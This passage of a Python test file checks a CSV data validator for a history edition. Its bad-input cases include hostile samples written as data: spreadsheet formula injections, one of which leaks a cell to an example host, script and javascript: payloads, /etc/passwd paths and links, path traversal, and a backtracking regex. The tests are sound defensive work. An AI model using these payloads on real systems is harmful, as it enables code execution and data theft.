"""Bad input, one kind at a time: every CSV field and every byte in data/ is untrusted (teachers and
students edit it). Each case below breaks a fresh copy of data/ in one way, as a careless or hostile
editor might, and the validator must answer with exactly one line naming file, row, column, value
and what to do; never a traceback. The fast tier (make check); random bytes and edits, and a real
kernel, are in test_bad_inputs_deep.py."""
from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from functools import partial
from pathlib import Path

import pytest

from edition.data import DATA_DIR, FIX_LINE, DataError, load
from edition.data.validate import Problem, main, validate

pytestmark = pytest.mark.check
REPO = Path(__file__).resolve().parent.parent
PLAIN = "plain text only (no HTML, Markdown, MyST or template markup)"
ONE_LINE = "contains a line break: every column holds one line of text (join the lines with a space)"
TABLES = len(json.loads((DATA_DIR / "datapackage.json").read_text(encoding="utf-8"))["resources"])


@pytest.fixture
def copy(tmp_path, monkeypatch):
    """data/ and chapters/ side by side in a temporary folder, which is also the working directory,
    so messages name files as the CLI does when run from the repository: data/attestations.csv."""
    shutil.copytree(DATA_DIR, tmp_path / "data")
    shutil.copytree(REPO / "chapters", tmp_path / "chapters")
    monkeypatch.chdir(tmp_path)
    return tmp_path / "data"


# ---- ways to break a copy ---------------------------------------------------------------------

def read(data: Path, table: str) -> list[list[str]]:
    with open(data / f"{table}.csv", encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def write(data: Path, table: str, records: list[list[str]]) -> None:
    with open(data / f"{table}.csv", "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(records)


def set_cell(data: Path, table: str, row: int, column: str, value: str) -> None:
    """Set one cell; `row` counts the header as row 1, as the validator's messages do."""
    records = read(data, table)
    records[row - 1][records[0].index(column)] = value
    write(data, table, records)


def row_where(data: Path, table: str, **match: str) -> int:
    """The number of the first row whose cells equal `match` (header = row 1)."""
    records = read(data, table)
    for number, record in enumerate(records[1:], start=2):
        if all(record[records[0].index(c)] == v for c, v in match.items()):
            return number
    raise LookupError(match)


def raw(data: Path, table: str) -> bytes:
    return (data / f"{table}.csv").read_bytes()


def put(data: Path, table: str, content: bytes) -> None:
    (data / f"{table}.csv").write_bytes(content)


def edit_descriptor(data: Path, change) -> None:
    path = data / "datapackage.json"
    descriptor = json.loads(path.read_text(encoding="utf-8"))
    path.write_text(json.dumps(change(descriptor) or descriptor, indent=1), encoding="utf-8")


def resource(descriptor: dict, name: str) -> dict:
    return next(r for r in descriptor["resources"] if r["name"] == name)


# ---- the table of bad inputs: each breaks a copy one way and returns the one line expected -------

CASES = []
BREAK = {}  # a case's name: the function that breaks a copy that way


def case(fn, name: str | None = None):
    """A way to break a copy: fn(data) breaks it and returns the one line expected (its name: fn's, or `name`)."""
    name = name or fn.__name__
    CASES.append(pytest.param(fn, id=name))
    BREAK[name] = fn
    return fn


def bad_cell(data: Path, table: str, row: int | dict, column: str, value: str, shown: str, says: str) -> str:
    """One cell set to a bad value. The line names the file, the row (the header is row 1; a dict
    `row`: the first row whose cells it matches), the column and the value as shown, then `says`."""
    number = row_where(data, table, **row) if isinstance(row, dict) else row
    set_cell(data, table, number, column, value)
    return f"data/{table}.csv, row {number}, column {column}: '{shown}' {says}"


def cells(*cases) -> None:
    """Cases of one bad cell each: (name, table, row, column, the value as the line shows it, what the
    line says of it[, the value, when it is not the shown one with its escapes read])."""
    for name, table, row, column, shown, says, *value in cases:
        value = value[0] if value else shown.encode("latin-1", "backslashreplace").decode("unicode_escape")
        case(partial(bad_cell, table=table, row=row, column=column, value=value, shown=shown, says=says), name)


def invisible(character: str) -> str:
    return f"contains an invisible character {character}: delete it"


NO_BREAK_SPACE = "contains U+00A0 (NO-BREAK SPACE), which looks like a space but is not one: replace it with an ordinary space"
MEMBERSHIP = {"type": "membership", "group_id": "workers-group"}  # a happening's row that names a group


def markups(*cases) -> None:
    """Cases of markup in a happening's title: (name, title, the markup found, its kind[, the fix])."""
    for name, title, found, kind, *fix in cases:
        says = f"contains {kind} '{found}': {PLAIN}: {fix[0] if fix else 'remove it'}"
        case(partial(bad_cell, table="happenings", row=5, column="title", value=title, shown=title, says=says), name)


def bad_bytes(data: Path, table: str, old: bytes, new: bytes, expected: str) -> str:
    put(data, table, raw(data, table).replace(old, new, 1))
    return expected


def replacements(*cases) -> None:
    """Cases that replace the first `old` bytes of a table with `new`: (name, table, old, new, the one line expected)."""
    for name, table, old, new, expected in cases:
        case(partial(bad_bytes, table=table, old=old, new=new, expected=expected), name)


# files

@case
def empty_file(data):
    put(data, "attestations", b"")
    return ("data/attestations.csv: is empty (it needs at least the header row, attestation_id,happening_id,source_id,paragraph,..., "
            "and one row of data)")


@case
def only_blank_lines(data):
    put(data, "groups", b"\n\r\n\n")
    return ("data/groups.csv: is empty (it needs at least the header row, group_id,name,short_name,name_russian,..., "
            "and one row of data)")


@case
def header_only(data):
    put(data, "disputes", raw(data, "disputes").split(b"\n")[0] + b"\n")
    return "data/disputes.csv: has a header but no rows of data (every table needs at least one row)"


@case
def byte_order_mark(data):
    put(data, "attestations", b"\xef\xbb\xbf" + raw(data, "attestations"))
    return "data/attestations.csv: U+FEFF byte-order mark at the start of the file: save it as plain UTF-8 (CSV UTF-8 without BOM)"


@case
def byte_order_mark_and_crlf(data):  # Excel's "CSV UTF-8": the mark is the only problem
    put(data, "people", b"\xef\xbb\xbf" + raw(data, "people").replace(b"\n", b"\r\n"))
    return "data/people.csv: U+FEFF byte-order mark at the start of the file: save it as plain UTF-8 (CSV UTF-8 without BOM)"


@case
def utf16(data):
    put(data, "groups", raw(data, "groups").decode("utf-8").encode("utf-16"))
    return "data/groups.csv: is saved as UTF-16 (Excel's \"Unicode Text\"): save it as CSV UTF-8"


@case
def latin1_byte(data):
    text = raw(data, "people").decode("utf-8").replace("Serge Tiunov", "Serge Tiunov\u00e9")
    put(data, "people", text.encode("utf-8").replace("\u00e9".encode("utf-8"), b"\xe9"))
    at = text.encode("utf-8").index("Tiunov\u00e9".encode("utf-8")) + len("Tiunov")
    return (f"data/people.csv, row 5, column name: 'Serge Tiunov\\xe9' is not valid UTF-8: byte b'\\xe9' at byte position {at} "
            "(re-save the file as UTF-8; it looks like Latin-1 or Windows-1252)")


@case
def quote_left_open(data):
    row = len(read(data, "attestations")) + 1
    put(data, "attestations", raw(data, "attestations") + b'at-new,"1923-01-01,1923-01-01\n')
    return (f"data/attestations.csv, row {row}: cannot be read as CSV: a quoted cell that starts in this row is never closed "
            "(add the closing '\"', or remove the opening one)")


cells(
    # 131,072 characters
    ("cell_beyond_the_csv_modules_own_limit", "attestations", 5, "note", "x" * 77 + "...",
     "is 200,000 characters long; this column allows at most 2,000 (shorten it)", "x" * 200_000),
)


@case
def missing_file(data):
    (data / "quotations.csv").unlink()
    return "data/quotations.csv: not found: the file named in datapackage.json is missing"


@case
def folder_instead_of_file(data):
    (data / "quotations.csv").unlink()
    (data / "quotations.csv").mkdir()
    return not_a_file("data/quotations.csv", "a folder", "move it out of")


def not_a_file(name: str, kind: str, fix: str) -> str:
    folder = name.split("/")[0]
    return (f"{name}: is {kind}, not an ordinary file: {fix} {folder}/ ({folder}/ holds only ordinary files; the book "
            "copies them into every download)")


@case
def link_to_a_file_outside_data(data):
    (data / "quotations.csv").unlink()
    (data / "quotations.csv").symlink_to("/etc/passwd")
    return not_a_file("data/quotations.csv", "a link", "put the file itself in")


@case
def link_to_a_folder_in_data(data):  # the folder of keys would ride along in every download
    keys = data.parent / "keys"
    keys.mkdir()
    (keys / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (data / "keys").symlink_to(keys)
    return not_a_file("data/keys", "a link", "put the file itself in")


@case
def link_to_a_file_inside_data(data):
    (data / "copy.csv").symlink_to(data / "groups.csv")
    return not_a_file("data/copy.csv", "a link", "put the file itself in")


@case
def link_in_chapters(data):
    (data.parent / "chapters" / "secret.md").symlink_to("/etc/hostname")
    return not_a_file("chapters/secret.md", "a link", "put the file itself in")


@case
def link_inside_a_hidden_folder(data):  # Jupyter's checkpoints folder is looked into
    (data / ".ipynb_checkpoints").mkdir()
    (data / ".ipynb_checkpoints" / "people-checkpoint.csv").symlink_to("/etc/passwd")
    return not_a_file("data/.ipynb_checkpoints/people-checkpoint.csv", "a link", "put the file itself in")


@case
def fifo_in_data(data):
    os.mkfifo(data / "pipe")
    return not_a_file("data/pipe", "a named pipe (FIFO)", "delete it from")


@case
def fifo_as_a_table(data):  # one line, and the validator never opens it (a FIFO blocks its reader)
    (data / "quotations.csv").unlink()
    os.mkfifo(data / "quotations.csv")
    return not_a_file("data/quotations.csv", "a named pipe (FIFO)", "delete it from")


@case
def socket_in_chapters(data):
    import socket

    with socket.socket(socket.AF_UNIX) as s:
        s.bind("chapters/s")  # relative (the working directory is the copy): a full path may be too long
    return not_a_file("chapters/s", "a socket", "delete it from")


@case
def folder_in_data(data):
    (data / "extra").mkdir()
    return not_a_file("data/extra", "a folder", "move it out of")


@case
def descriptor_is_a_link(data):
    (data.parent / "elsewhere.json").write_bytes((data / "datapackage.json").read_bytes())
    (data / "datapackage.json").unlink()
    (data / "datapackage.json").symlink_to(data.parent / "elsewhere.json")
    return not_a_file("data/datapackage.json", "a link", "put the file itself in")


@case
def chapters_not_beside_data(data):
    shutil.rmtree(data.parent / "chapters")
    return "chapters: not found: paragraph labels cannot be checked (chapters/ must sit beside data/)"


# rows and the header

replacements(
    ("text_after_closing_quote", "disputes", b"\nmiasnikov-release,", b'\n"miasnikov-release"x,',
     "data/disputes.csv, row 3: cannot be read as CSV: text follows a closing quote "
     "(inside a quoted cell, write a quote as two quotes: \"\")"),
    ("blank_row_between_rows", "groups", b"\nworkers-group,", b"\n\nworkers-group,", "data/groups.csv, row 3: is a blank row (delete it)"),
    ("row_with_a_cell_too_many", "groups", b"\nworkers-group,", b"\nworkers-group,extra,",
     "data/groups.csv, row 3: has 12 cells, but the header has 11 columns (check the commas and quotes in this row)"),
    ("renamed_column", "attestations", b",note\n", b",place\n",
     "data/attestations.csv, row 1: 'place' is column 17 of the header, where datapackage.json expects 'note' (rename it)"),
    ("stray_comma_after_the_header", "disputes", b",paragraph\n", b",paragraph,\n",
     "data/disputes.csv, row 1: column 7 has no name in the header (a stray comma?): delete it, "
     "or give each the name datapackage.json expects"),
    ("header_name_with_a_hidden_character", "happenings", b"title", "title\u200b".encode("utf-8"),
     "data/happenings.csv, row 1: 'title\\u200b' contains an invisible character U+200B (ZERO WIDTH SPACE): delete it"),
    ("carriage_return_in_a_quoted_field", "disputes", b"When Miasnikov left prison", b'"When Miasnikov\rleft prison"',
     f"data/disputes.csv, row 3, column topic: 'When Miasnikov\\rleft prison' {ONE_LINE}"),
)


@case
def row_of_commas(data):
    row = len(read(data, "groups")) + 1
    put(data, "groups", raw(data, "groups") + b"," * 10 + b"\n")
    return f"data/groups.csv, row {row}: is a blank row (delete it)"


@case
def row_with_a_cell_too_few(data):
    records = read(data, "groups")
    records[4] = records[4][:-1]
    write(data, "groups", records)
    return "data/groups.csv, row 5: has 10 cells, but the header has 11 columns (check the commas and quotes in this row)"


@case
def missing_column(data):
    records = read(data, "attestations")
    at = records[0].index("place")
    write(data, "attestations", [r[:at] + r[at + 1:] for r in records])
    return "data/attestations.csv, row 1, column place: column is missing from the header (datapackage.json expects it)"


@case
def duplicate_header_name(data):
    records = read(data, "groups")
    write(data, "groups", [r + [r[1]] for r in records])
    return "data/groups.csv, row 1: 'name' is in the header twice (columns 2 and 12): delete one of them"


@case
def columns_swapped(data):
    records = read(data, "disputes")
    write(data, "disputes", [[r[1], r[0]] + r[2:] for r in records])
    return ("data/disputes.csv, row 1: 'topic,dispute_id,essay_says,others_say,editors_view,paragraph' has the columns "
            "in the wrong order (expected: dispute_id,topic,essay_says,others_say,editors_view,paragraph)")


# characters

cells(
    ("nul_byte", "happenings", 5, "title", r"Revolutionary\x00after-shock in China.",
     "contains a control character U+0000 (NUL): delete it"),
    ("terminal_escape", "people", 5, "name", r"Serge \x1b[31mTiunov",
     "contains a control character U+001B (ESC): delete it"),
    ("c1_control_from_windows_1252", "groups", 3, "description", r"Miasnikov\x92s group",
     "contains a control character U+0092 (PU2): delete it, or retype the character (text pasted from Windows-1252 "
     "leaves these)"),
    ("tab", "attestations", 5, "place", r"China\tShanghai",
     "contains a control character U+0009 (TAB): replace it with a space"),
    ("newline_in_a_text_field", "happenings", 5, "title", r"Revolutionary after-shock\nin China.", ONE_LINE),
    ("newline_in_an_id", "groups", 5, "group_id", r"workers-\nopposition", ONE_LINE),
    ("line_separator", "sources", 5, "title", r"Au Pays du\u2028Grand Mensonge", invisible("U+2028 (LINE SEPARATOR)")),
    ("no_break_space_in_an_id", "happenings", MEMBERSHIP, "group_id", r"workers\xa0group", NO_BREAK_SPACE),
    # the real data has none, so prose gets no exception
    ("no_break_space_in_prose", "sources", 5, "title", r"Au Pays du Grand\xa0Mensonge",
     NO_BREAK_SPACE),
    ("zero_width_space_in_a_foreign_key", "happenings", MEMBERSHIP, "group_id", r"workers-group\u200b",
     invisible("U+200B (ZERO WIDTH SPACE)")),
    ("zero_width_non_joiner", "people", 5, "name", r"Serge Ti\u200cunov", invisible("U+200C (ZERO WIDTH NON-JOINER)")),
    ("zero_width_joiner_in_a_label", "quotations", 3, "paragraph", r"wt-3;\u200dwt-4",
     invisible("U+200D (ZERO WIDTH JOINER)")),
    ("word_joiner", "attestations", 5, "date_text", r"19\u206027", invisible("U+2060 (WORD JOINER)")),
    ("byte_order_mark_inside_a_field", "people", 5, "person_id", r"\ufefftiunov",
     invisible("U+FEFF (BYTE ORDER MARK)")),
    ("soft_hyphen", "people", 5, "name", r"Serge Tiu\xadnov", invisible("U+00AD (SOFT HYPHEN)")),
    ("bidi_override", "happenings", 5, "title", r"Revolutionary \u202eanihC ni kcohs-retfa",
     invisible("U+202E (RIGHT-TO-LEFT OVERRIDE)")),
    ("bidi_isolate_in_a_date", "attestations", 5, "date_start", r"\u20661927-01-01",
     invisible("U+2066 (LEFT-TO-RIGHT ISOLATE)")),
    ("replacement_character", "people", 5, "name", "Serge Ti\ufffdnov",
     "contains U+FFFD (REPLACEMENT CHARACTER), the mark of text damaged by a wrong encoding: retype the character it "
     "replaced"),
)


# characters that print as nothing, though Unicode counts them as letters, marks or symbols

cells(
    ("combining_grapheme_joiner_in_a_name", "people", 5, "name", r"Serge Ti\u034funov",
     invisible("U+034F (COMBINING GRAPHEME JOINER)")),
    ("variation_selector_in_a_name", "people", 5, "name", r"Serge Tiunov\ufe0f", invisible("U+FE0F (VARIATION SELECTOR-16)")),
    ("hangul_filler_as_a_space", "people", 5, "name", r"Serge\u3164Tiunov", invisible("U+3164 (HANGUL FILLER)")),
    ("hangul_choseong_filler", "people", 5, "name", r"\u115fSerge Tiunov", invisible("U+115F (HANGUL CHOSEONG FILLER)")),
    ("hangul_jungseong_filler", "groups", 3, "name", r"Workers\u1160 Group", invisible("U+1160 (HANGUL JUNGSEONG FILLER)")),
    ("mongolian_variation_selector", "people", 5, "name", r"Serge Tiunov\u180b",
     invisible("U+180B (MONGOLIAN FREE VARIATION SELECTOR ONE)")),
    ("braille_blank", "people", 5, "name", r"Serge\u2800Tiunov", invisible("U+2800 (BRAILLE PATTERN BLANK)")),
    ("halfwidth_hangul_filler", "people", 5, "name", r"Serge Tiunov\uffa0", invisible("U+FFA0 (HALFWIDTH HANGUL FILLER)")),
    ("filler_in_a_foreign_key", "happenings", MEMBERSHIP, "group_id", r"workers-group\u3164",
     invisible("U+3164 (HANGUL FILLER)")),
    ("combining_mark_with_no_letter", "people", 5, "name", "Serge \u0301Tiunov",
     "contains U+0301 (COMBINING ACUTE ACCENT), a mark with no letter before it, which prints as nothing or on the "
     "wrong letter: delete it, or type it after its letter"),
)


replacements(
    ("filler_in_a_header", "groups", b"group_id,name,", "group_id,name\u3164,".encode("utf-8"),
     "data/groups.csv, row 1: 'name\\u3164' contains an invisible character U+3164 (HANGUL FILLER): delete it"),
)


def test_a_mark_typed_after_its_letter_is_accepted(copy):  # a decomposed é: e and U+0301
    set_cell(copy, "people", 5, "name", "Serge Tiune\u0301v")
    assert problems(copy) == []


# spaces and length

cells(
    ("title_of_spaces", "sources", 5, "title", "   ", "is only spaces, but this column is required (write a value)"),
    ("note_of_spaces", "attestations", 5, "note", "  ", "is only spaces (delete them, or write a value)"),
    # one line: the rows that refer to it are not reported as well
    ("space_around_a_referenced_id", "groups", 3, "group_id", "workers-group ",
     "has a space at the start or end: delete it"),
    ("space_before_a_category", "happenings", 5, "category", " context", "has a space at the start or end: delete it"),
    ("space_in_a_list_of_ids", "happenings", 5, "person_ids", "miasnikov; kuznetsov",
     "has a space next to a ';' (write the ids as a;b, without spaces)"),
    ("text_too_long", "attestations", 5, "note", "a" * 77 + "...",
     "is 2,001 characters long; this column allows at most 2,000 (shorten it)", "a" * 2001),
    ("id_too_long", "quotations", 3, "quote_id", "q" * 77 + "...",
     "is 201 characters long; this column allows at most 200 (shorten it)", "q" * 201),
)


# markup

markups(
    ("template_substitution", "China {{ config }}", "{{", "template or substitution syntax"),
    ("template_statement", "China {% include x %}", "{%", "template or substitution syntax"),
    ("template_comment", "China {# hidden #}", "{#", "template or substitution syntax"),
    ("myst_role", "See {download}`x.zip`", "{download}", "MyST/Sphinx role syntax"),
    ("myst_raw_name", "China {raw} html", "{raw}", "MyST/Sphinx role syntax"),
    ("myst_attributes", "China {.hidden}", "{.hidden}", "MyST attribute syntax"),
    ("backtick_fence", "```{raw} html", "```", "a directive fence"),
    ("colon_fence", ":::{note}", ":::", "a directive fence"),
    ("rst_directive", "China .. raw:: html", ".. raw::", "a reStructuredText directive"),
    ("backtick", "China `1927`", "`", "a backtick (code or role markup)"),
    ("display_math", "China $$x$$", "$$", "math markup"),
    ("script_tag", "<script>alert(1)</script>", "<script", "HTML or script"),
    ("img_onerror", "China <img src=x onerror=alert(1)>", "<img", "HTML or script"),
    ("javascript_in_text", "China JavaScript:alert(1)", "JavaScript:", "HTML or script (a script address)"),
    ("character_reference", "China &lt;b&gt;", "&lt;", "an HTML character reference", "write the character itself"),
    ("markdown_link", "[China](https://example.org)", "[China](", "Markdown link syntax"),
    ("myst_target", "(wt-3)=", "(wt-3)=", "a MyST target label"),
)


# spreadsheet formulas: a text cell that a spreadsheet would run

def formula(start: str) -> str:
    return (f"starts with '{start}', which a spreadsheet runs as a formula: reword it so that it does not start with "
            "= + - or @ (a text never needs to)")


cells(
    ("formula_hyperlink", "happenings", 5, "title", '=HYPERLINK("https://example.org/?leak="&A1,"China")', formula("=")),
    ("formula_plus_command", "people", 5, "name", '+cmd|" /C calc"!A0', formula("+")),
    ("formula_minus_command", "sources", 5, "title", '-2+3+cmd|" /C calc"!A0', formula("-")),
    ("formula_at_sum", "attestations", 5, "note", "@SUM(1+1)*cmd|' /C calc'!A0", formula("@")),
    ("formula_full_width_equals", "groups", 3, "description", "\uff1dHYPERLINK(1)", formula("\uff1d"),
     "\uff1dHYPERLINK(1)"),
)


# web addresses

cells(
    ("url_not_an_address", "sources", 8, "url", "see the library catalogue",
     "is not a web address (expected http:// or https:// and then the address, e.g. https://example.org/page)"),
    ("url_javascript", "sources", 8, "url", "javascript:alert(1)",
     "is not a web address: only http:// and https:// addresses are allowed, not 'javascript:'"),
    ("url_file", "sources", 8, "url", "file:///etc/passwd",
     "is not a web address: only http:// and https:// addresses are allowed, not 'file:'"),
    ("url_data", "sources", 8, "url", "data:text/html;base64,PHNjcmlwdD4=",
     "is not a web address: only http:// and https:// addresses are allowed, not 'data:'"),
    ("url_with_a_quote", "sources", 8, "url", 'https://example.org/"onmouseover="alert(1)',
     "is not a web address (expected http:// or https:// and then the address, e.g. https://example.org/page)"),
)


# paragraph labels and values

cells(
    ("quote_paragraph_unknown", "quotations", 3, "quote_paragraph", "wg-99",
     "is not a paragraph label in chapters (expected e.g. cr-1, wt-3, note-5)"),
    ("dispute_paragraph_unknown", "disputes", 3, "paragraph", "note-77",
     "is not a paragraph label in chapters (expected e.g. cr-1, wt-3, note-5)", "note-3;note-77"),
    ("paragraph_label_malformed", "attestations", 5, "paragraph", "cr-1;",
     "is not a paragraph label or a ';'-separated list of them (e.g. wt-3 or cr-1;note-2)"),
    # the loader reads only 'true' as true
    ("boolean_written_true", "quotations", 3, "uncertain", "True",
     "is not true or false (expected exactly 'true' or 'false')"),
    ("number_too_large", "size_estimates", {"low": ""}, "low", "9" * 30, "is too large a number (at most 15 digits)"),
    ("number_with_decimals", "size_estimates", {"low": ""}, "low", "12.5", "is not a whole number (expected digits only, e.g. 200)"),
    ("unknown_foreign_key", "happenings", {"type": "membership"}, "group_id", "no-such-group",
     "does not match any group_id in groups.csv"),
)


@case
def duplicate_primary_key(data):
    set_cell(data, "disputes", 3, "dispute_id", "miasnikov-escape")
    # (the row's own id, miasnikov-release, was used by other tables: they follow it, so that their
    # references stay valid and the happening it covers keeps the editors' words it needs)
    for table in ("happenings", "size_estimates", "people"):
        records = read(data, table)
        at = records[0].index("dispute_id")
        write(data, table, [[*(r[:at]), "miasnikov-escape" if r[at] == "miasnikov-release" else r[at], *(r[at + 1:])]
                            for r in records])
    return "data/disputes.csv, row 3, column dispute_id: 'miasnikov-escape' is a duplicate: dispute_id must be unique (first used in row 2)"


# the descriptor

def bad_descriptor(data: Path, change, expected: str) -> str:
    if isinstance(change, bytes):
        (data / "datapackage.json").write_bytes(change)
    else:
        edit_descriptor(data, change)
    return expected


def descriptors(*cases) -> None:
    """Cases that write datapackage.json over, with other bytes or an edit of its own content:
    (name, the bytes or the edit, the one line expected)."""
    for name, change, expected in cases:
        case(partial(bad_descriptor, change=change, expected=expected), name)


descriptors(
    ("descriptor_not_json", b"{ not json",
     "data/datapackage.json: is not valid JSON: Expecting property name enclosed in double quotes (line 1, column 3)"),
    ("descriptor_empty", b"", "data/datapackage.json: is empty (restore it from git: it describes every table)"),
    ("descriptor_not_an_object", b'["events.csv"]',
     "data/datapackage.json: is not a data package (expected a JSON object with a \"resources\" list)"),
    ("descriptor_without_resources", lambda d: {k: v for k, v in d.items() if k != "resources"},
     "data/datapackage.json: has no \"resources\" list naming the tables (restore it from git)"),
    ("resource_path_outside_data", lambda d: resource(d, "attestations").update(path="../../etc/passwd"),
     "data/datapackage.json: resource 5 (attestations): path '../../etc/passwd' points outside data/ "
     "(a table must be a .csv file inside data/, e.g. happenings.csv)"),
    ("resource_path_absolute", lambda d: resource(d, "sources").update(path="/etc/passwd"),
     "data/datapackage.json: resource 1 (sources): path '/etc/passwd' points outside data/ "
     "(a table must be a .csv file inside data/, e.g. happenings.csv)"),
    ("foreign_key_to_an_unknown_table",
     lambda d: resource(d, "happenings")["schema"]["foreignKeys"][0]["reference"].update(resource="gropus"),
     "data/datapackage.json: resource 4 (happenings): foreign key refers to a table 'gropus' that is not in resources "
     "(the tables are: sources, groups, people, happenings, attestations, size_estimates, disputes, distinctions, repression_kinds, quotations, "
     "names, places)"),
    ("unknown_field_type", lambda d: resource(d, "groups")["schema"]["fields"][5].update(type="geopoint"),
     "data/datapackage.json: resource 2 (groups): field 'kind' has type 'geopoint', which this validator does not "
     "check (boolean, date, integer, number, string)"),
)


BACKTRACKS = "^(([^!]+)+)+$"  # Python's re tries every way to split a run of letters before it fails at the '!'


@case
def pattern_that_backtracks(data):  # re: hours; RE2: linear in the cell
    edit_descriptor(data, lambda d: resource(d, "happenings")["schema"]["fields"][4].update(constraints={"pattern": BACKTRACKS}))
    set_cell(data, "happenings", 5, "title", "a" * 60 + "!")
    return f"data/happenings.csv, row 5, column title: '{'a' * 60}!' has the wrong form (expected to match {BACKTRACKS})"


descriptors(
    ("pattern_with_a_backreference",
     lambda d: resource(d, "happenings")["schema"]["fields"][4].update(constraints={"pattern": r"^(\w+) \1$"}),
     r"data/datapackage.json: resource 4 (happenings): field 'title': pattern '^(\w+) \1$' is not a regular expression "
     r"this validator runs (invalid escape sequence: \1; backreferences and lookaround are not supported)"),
    ("pattern_too_long", lambda d: resource(d, "happenings")["schema"]["fields"][4].update(constraints={"pattern": "a" * 5000}),
     f"data/datapackage.json: resource 4 (happenings): field 'title': pattern '{'a' * 77}...' is 5,000 characters long; "
     "a pattern may have at most 1,000"),
    ("descriptor_with_100000_fields",
     lambda d: resource(d, "groups")["schema"]["fields"].extend({"name": f"f{i}"} for i in range(100_000)),
     "data/datapackage.json: resource 2 (groups): fields has 100,011 entries; a table here may have at most 1,000 "
     "(restore datapackage.json from git)"),
    ("descriptor_with_10000_foreign_keys",
     lambda d: resource(d, "happenings")["schema"]["foreignKeys"].extend([{"fields": "group_id", "reference": {
         "resource": "groups", "fields": "group_id"}}] * 10_000),
     "data/datapackage.json: resource 4 (happenings): foreignKeys has 10,004 entries; a table here may have at most "
     "1,000 (restore datapackage.json from git)"),
    ("enum_of_100000_values",
     lambda d: resource(d, "groups")["schema"]["fields"][5]["constraints"].update(enum=[f"k{i}" for i in range(100_000)]),
     "data/datapackage.json: resource 2 (groups): field 'kind' has an enum of 100,000 values; at most 1,000 "
     "(restore datapackage.json from git)"),
    ("descriptor_with_1000_resources",
     lambda d: d["resources"].extend([resource(d, "groups")] * 1_000),
     f"data/datapackage.json: has {TABLES + 1_000:,} resources; a data package here may describe "
     "at most 200 tables (restore it from git)"),
)


# What a row claims (edition/data/claims.py, issue 24): a description, role, date, hedge or dispute that says more
# than, or other than, the words it cites
SAY_ONLY = ("say only what they say (what other sources add belongs in the note, naming them; what the editors infer, "
            "in the note as the editors')")
cells(
    ("description_with_an_office_the_essay_does_not_give", "people", {"person_id": "daniels"}, "description",
     "Editor of A Documentary History of Communism.",
     f"gives the role 'editor', which paragraph note-1 does not: add the paragraph that says it to paragraph, or {SAY_ONLY}"),
    ("description_with_a_place_the_essay_does_not_give", "groups", {"group_id": "left-opposition"}, "description",
     "Opposition in the Bolshevik Party founded in 1923 in Moscow by the 'Platform ...",
     f"gives the place 'Moscow', which paragraph cr-8;lo-1;lo-2 does not: add the paragraph that says it to paragraph, or "
     f"{SAY_ONLY}", "Opposition in the Bolshevik Party founded in 1923 in Moscow by the 'Platform of the Forty-Six'."),
    ("membership_role_its_words_do_not_give", "happenings", {"happening_id": "ms-trotsky-lo"}, "role", "leader",
     "gives the role 'leader', which the words of its attestations (the essay's paragraphs, the other sources' locators) "
     f"do not: {SAY_ONLY}"),
    ("essay_date_without_the_essays_words", "attestations", {"attestation_id": "at-ms-miasnikov-wg-essay"}, "date_text", "",
     "is empty, but the row gives a date (1923-02-01): write the date as paragraph wg-4 words it (or, if the date comes "
     "from elsewhere, move it to an attestation of the same happening whose source is the editors (source_id editors), "
     "with the reasoning in its note, or delete it)"),
    ("essay_place_as_part_of_a_word", "attestations", {"attestation_id": "at-ev-essay-wg-underground"}, "place", "Russia",
     "is not in the words of paragraph wg-4: the essay does not say it; move it to an attestation of the same happening "
     "whose source is the editors (source_id editors), with the reasoning in its note, or delete it"),
    ("editors_hedge_filed_as_the_sources", "attestations", {"attestation_id": "at-ev-kai-ceases-uncensored"}, "hedge",
     "probably", "is not in the locator (the words of uncensored-cwi): a hedge is the source's own word, copied from its "
     "words; if the doubt is the editors', write it as 'editors: <why>'"),
    ("size_estimates_that_disagree_without_a_dispute", "size_estimates", {"estimate_id": "se-rcp-delegates-12th-report"},
     "dispute_id", "", "does not join this estimate to row 29 (se-rcp-delegates-12th-gse), which counts the same delegates "
     "of rcp-b at overlapping dates differently (408-408 against 458-458): name one dispute in both rows, whose words "
     "state both counts"),
)


@case
def dispute_that_leaves_out_a_version(data):
    set_cell(data, "disputes", row_where(data, "disputes", dispute_id="trotsky-alma-ata"), "others_say",
             "17 January 1928 (Rudnik; Chernyavsky).")
    return (f"data/attestations.csv, row {row_where(data, 'attestations', attestation_id='at-ctx-trotsky-alma-ata-qalam')}, "
            "column date_text: '18 January 1928' is a version of the disputed ev-trotsky-alma-ata, but dispute "
            "'trotsky-alma-ata' does not state it (neither these words nor its day, month and year): state every version "
            "in the dispute's essay_says or others_say as the attestations give it")


def field(descriptor: dict, table: str, name: str) -> dict:
    return next(f for f in resource(descriptor, table)["schema"]["fields"] if f["name"] == name)


@case
def count_in_words_with_the_descriptor_saying_text(data):  # the loader's int() would have raised
    edit_descriptor(data, lambda d: field(d, "attestations", "low").update(type="string"))
    set_cell(data, "attestations", 53, "low", "about 30")
    return "data/attestations.csv, row 53, column low: 'about 30' is not a whole number (expected digits only, e.g. 200)"


@case
def source_id_not_a_key_with_the_descriptor_saying_any_text(data):  # it becomes a BibTeX key
    edit_descriptor(data, lambda d: field(d, "sources", "source_id").update(constraints={"required": True, "unique": True}))
    records = read(data, "sources")
    write(data, "sources", records + [["ward {1999}, p"] + records[4][1:]])
    return (f"data/sources.csv, row {len(records) + 1}, column source_id: 'ward {{1999}}, p' is not a valid id (lower-case "
            "letters and digits, words joined by single hyphens, e.g. miasnikov-arrest-1923)")


@case
def descriptor_with_byte_order_mark(data):
    path = data / "datapackage.json"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    return "data/datapackage.json: U+FEFF byte-order mark at the start of the file: save it as plain UTF-8 (CSV UTF-8 without BOM)"


# ---- the tests ----------------------------------------------------------------------------------

def problems(data: Path) -> list[str]:
    found = validate(data)
    assert all(isinstance(p, Problem) for p in found)
    return [str(p) for p in found]


@pytest.mark.parametrize("break_it", CASES)
def test_bad_input_gives_exactly_one_line(copy, break_it):
    expected = break_it(copy)
    assert problems(copy) == [expected]


def test_there_are_many_kinds_of_bad_input():
    assert len(CASES) >= 45


# Problems of a whole file, of a cell, of the descriptor; of reading and of the edition's own rules
ENTRY_POINT_CASES = ["empty_file", "byte_order_mark", "quote_left_open", "descriptor_not_json", "quote_paragraph_unknown",
                     "resource_path_outside_data"]


@pytest.mark.parametrize("name", ENTRY_POINT_CASES)
